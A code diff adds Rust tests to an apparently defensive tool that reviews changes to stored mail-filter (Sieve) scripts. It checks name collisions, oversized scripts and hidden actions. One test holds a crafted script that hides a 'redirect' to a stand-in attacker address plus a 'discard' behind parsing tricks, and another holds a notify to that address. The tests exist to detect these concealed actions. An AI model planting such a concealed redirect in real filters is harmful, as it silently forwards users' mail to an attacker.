@@ -16,6 +16,7 @@ fn stored(scripts: &[(&str, &str)], active: Option<&str>) -> Stored {
     Stored {
         scripts: scripts.iter().map(|(name, text)| ((*name).to_owned(), text.as_bytes().to_vec())).collect(),
         active: active.map(str::to_owned),
+        names: scripts.iter().map(|(name, _)| (*name).to_owned()).collect(),
     }
 }
 
@@ -166,4 +167,47 @@ proptest! {
         pieces.push(Piece::Text(rest.to_vec()));
         prop_assert_eq!(parse(&pieces), Ok(Command::Change(Change::Put { name, script: script.into_bytes() })));
     }
+}
+
+#[test]
+fn what_a_server_takes_for_the_same_name_is_refused() {
+    let stored = Stored { names: vec!["main".to_owned(), "B\u{fc}ro".to_owned()], ..Stored::default() };
+    for alike in ["Main", "MAIN", "b\u{fc}ro", "Bu\u{308}ro"] {
+        let put = Change::Put { name: alike.to_owned(), script: b"keep;".to_vec() };
+        assert!(put.impossible(&stored).is_some(), "{alike}");
+    }
+    for other in ["main", "maine", "Buro"] {
+        let put = Change::Put { name: other.to_owned(), script: b"keep;".to_vec() };
+        assert!(put.impossible(&stored).is_none(), "{other}");
+    }
+}
+
+#[test]
+fn nothing_is_hidden_from_who_decides() {
+    let put = |script: &str| {
+        let change = Change::Put { name: "main".to_owned(), script: script.as_bytes().to_vec() };
+        change.part(&Stored::default())
+    };
+    let many = "# nothing\n".repeat(1001);
+    assert!(put(&many).operation.opaque, "what is not shown whole can only be denied");
+    // A dot and a space end no text.
+    let text = "set \"x\" text:\n. \n/*\n.\n;\nredirect \"evil@x.example\"; discard;\n# */\n";
+    let members = put(text).operation.audience.unwrap().members;
+    assert_eq!(members.iter().map(|one| one.address.as_str()).collect::<Vec<_>>(), ["evil@x.example"]);
+    let notify = put("notify :message \"x\" \"mailto:evil@x.example?subject=y\";").operation.audience.unwrap();
+    assert_eq!((notify.members[0].role.as_str(), notify.members[0].address.as_str()), ("notify", "evil@x.example"));
+    assert!(effects(b"if not filter \"prog\" { keep; }").runs_programs);
+    assert!(effects(b"keep :flags \"\\\\Deleted\";").flags.contains("\\Deleted"));
+    assert!(effects(b"fileinto :specialuse \"\\\\Trash\" \"INBOX\";").files_into.contains("\\Trash"));
+}
+
+#[test]
+fn long_scripts_are_compared_in_no_time() {
+    let line = |n: usize, word: &str| format!("# {word} {n}\n");
+    let before: String = (0..60_000).map(|n| line(n, "a")).collect();
+    let after: String = (0..60_000).map(|n| line(n, "b")).collect();
+    let stored =
+        Stored { scripts: [("main".to_owned(), before.into_bytes())].into(), active: None, ..Stored::default() };
+    let change = Change::Put { name: "main".to_owned(), script: after.into_bytes() };
+    assert!(change.part(&stored).operation.opaque);
 }
